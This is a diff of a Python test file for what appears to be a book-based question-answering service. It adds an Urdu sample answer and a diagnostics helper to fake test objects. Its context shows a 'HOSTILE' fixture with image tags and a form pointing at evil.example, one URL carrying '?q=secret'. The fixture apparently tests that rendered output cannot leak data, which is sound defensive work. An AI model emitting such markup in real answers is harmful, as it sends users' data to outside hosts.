@@ -83,6 +83,7 @@ ASKED = (
     "What is a node?", "What is a topic?", "How do nodes talk?", "Which battery lasts longest?",
     "Which battery lasts long?",
 )  # fmt: skip
+URDU = "ایک نوڈ پیغام کو ایک `topic` پر شائع کرتا ہے [1]۔\n\n- پہلا نکتہ\n- دوسرا نکتہ\n"
 HOSTILE = """\
 Look ![x](https://evil.example/a.png?q=secret) and <img src="https://evil.example/b.png">
 <form action="https://evil.example/"><input name="q"><button>go</button></form>
@@ -110,9 +111,11 @@ class FakeAnswering:
         refused = word == "unknown"
         citations = () if word == "hostile" else CITATIONS
         yield SourcesEvent(citations)
-        text = {"hostile": HOSTILE, "unknown": "I could not find this in the book."}.get(
-            word, ANSWER
-        )
+        text = {
+            "hostile": HOSTILE,
+            "urdu": URDU,
+            "unknown": "I could not find this in the book.",
+        }.get(word, ANSWER)
         try:
             for piece in text.splitlines(keepends=True):
                 yield TokenEvent(piece)
@@ -291,6 +294,11 @@ class FakeContainer:
         self.retrieval = FakeRetrieval()
         self.diagnostics = Diagnostics(loaded, tuple(_probes()), now=lambda: WHEN)
         self.stopping = asyncio.Event()
+        self._loaded = loaded
+
+    def diagnose(self, *probes: Probe, fresh_s: float = 5.0) -> None:
+        """Let these probes make the report."""
+        self.diagnostics = Diagnostics(self._loaded, probes, now=lambda: WHEN, fresh_s=fresh_s)
 
     def circuits(self) -> dict[str, dict[str, Any]]:
         closed = {
